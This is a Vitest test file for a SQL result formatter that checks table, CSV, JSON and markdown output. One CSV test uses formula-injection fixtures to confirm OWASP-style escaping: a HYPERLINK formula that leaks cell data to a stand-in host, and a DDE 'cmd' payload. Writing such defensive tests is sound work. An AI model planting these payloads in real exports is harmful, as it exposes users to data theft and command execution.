import { describe, expect, it } from 'vitest';
import { formatResult, jsonText } from '../../src/sql/format.js';
import type { SqlResult } from '../../src/sql/values.js';

const result: SqlResult = {
  columns: [
    { name: 'model', type: 'VARCHAR', numeric: false },
    { name: 'calls', type: 'BIGINT', numeric: true },
    { name: 'p50_ms', type: 'DOUBLE', numeric: true },
    { name: 'ports', type: 'INTEGER[]', numeric: false },
  ],
  rows: [
    ['a/b', 1234567, 12.5, [0, 1]],
    ['c|d *e*', 3, 7, null],
  ],
};

describe('formatResult', () => {
  it('table: numbers right-aligned with decimals lined up and wide numbers grouped', () => {
    expect(formatResult(result, 'table')).toBe(
      'model        calls  p50_ms  ports\n' +
      '-------  ---------  ------  -----\n' +
      'a/b      1,234,567    12.5  [0,1]\n' +
      'c|d *e*          3     7.0  NULL\n' +
      '(2 rows)\n',
    );
  });

  it('table: cuts long text, escapes line breaks, says (0 rows)', () => {
    const long: SqlResult = { columns: [{ name: 't', type: 'VARCHAR', numeric: false }], rows: [['x'.repeat(100)], ['a\nb\tc']] };
    const lines = formatResult(long, 'table', { maxCellChars: 10 }).split('\n');
    expect(lines[2]).toBe('xxxxxxxxx…');
    expect(lines[3]).toBe('a\\nb\\tc');
    expect(formatResult({ columns: long.columns, rows: [] }, 'table')).toBe('t\n-\n(0 rows)\n');
  });

  it('csv: RFC 4180 with CRLF', () => {
    expect(formatResult(result, 'csv')).toBe('model,calls,p50_ms,ports\r\na/b,1234567,12.5,"[0,1]"\r\nc|d *e*,3,7,\r\n');
  });

  it('csv: text a spreadsheet would run as a formula gets a leading quote (OWASP); numbers and --csv-raw stay as they are', () => {
    const hostile: SqlResult = {
      columns: [
        { name: 'claim', type: 'VARCHAR', numeric: false },
        { name: 'delta', type: 'DOUBLE', numeric: true },
        { name: '=header', type: 'BIGINT', numeric: true },
      ],
      rows: [
        ['=HYPERLINK("http://x.example/?"&A1,"click")', -1.5, -2n],
        ['+1+cmd|\' /C calc\'!A0', 0, 1n],
        ['-2+3', null, null],
        ['@SUM(A1:A2)', null, null],
        ['\tTAB', null, null],
        ['\rCR', null, null],
        ['plain = text, not a formula', null, null],
        [['=in a list'], null, null],
      ],
    };
    expect(formatResult(hostile, 'csv').split('\r\n')).toEqual([
      'claim,delta,\'=header',
      '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")",-1.5,-2',
      "'+1+cmd|' /C calc'!A0,0,1",
      "'-2+3,,",
      "'@SUM(A1:A2),,",
      "'\tTAB,,",
      '"\'\rCR",,',
      '"plain = text, not a formula",,',
      '"[""=in a list""]",,',
      '',
    ]);
    const raw = formatResult(hostile, 'csv', { csvRaw: true }).split('\r\n');
    expect(raw[0]).toBe('claim,delta,=header');
    expect(raw[1]).toBe('"=HYPERLINK(""http://x.example/?""&A1,""click"")",-1.5,-2');
    expect(raw[3]).toBe('-2+3,,');
    // The other formats are not for spreadsheets and never change a value.
    expect(formatResult(hostile, 'json')).toContain('"claim":"=HYPERLINK(');
  });

  it('json: one array of row objects, exact big integers', () => {
    expect(formatResult(result, 'json')).toBe('[\n{"model":"a/b","calls":1234567,"p50_ms":12.5,"ports":[0,1]},\n{"model":"c|d *e*","calls":3,"p50_ms":7,"ports":null}\n]\n');
    expect(jsonText(12345678901234567890n)).toBe('12345678901234567890');
    expect(jsonText(Number.NaN)).toBe('null');
    expect(formatResult({ columns: result.columns, rows: [] }, 'json')).toBe('[]\n');
    const dup: SqlResult = { columns: [{ name: 'a', type: 'INTEGER', numeric: true }, { name: 'a', type: 'INTEGER', numeric: true }], rows: [[1, 2]] };
    expect(JSON.parse(formatResult(dup, 'json'))).toEqual([{ a: 1, a_2: 2 }]);
  });

  it('markdown: numeric columns right-aligned, cells escaped', () => {
    expect(formatResult(result, 'markdown')).toBe(
      '| model | calls | p50\\_ms | ports |\n| --- | ---: | ---: | --- |\n| a/b | 1234567 | 12.5 | \\[0,1\\] |\n| c\\|d \\*e\\* | 3 | 7 |  |\n',
    );
  });
});
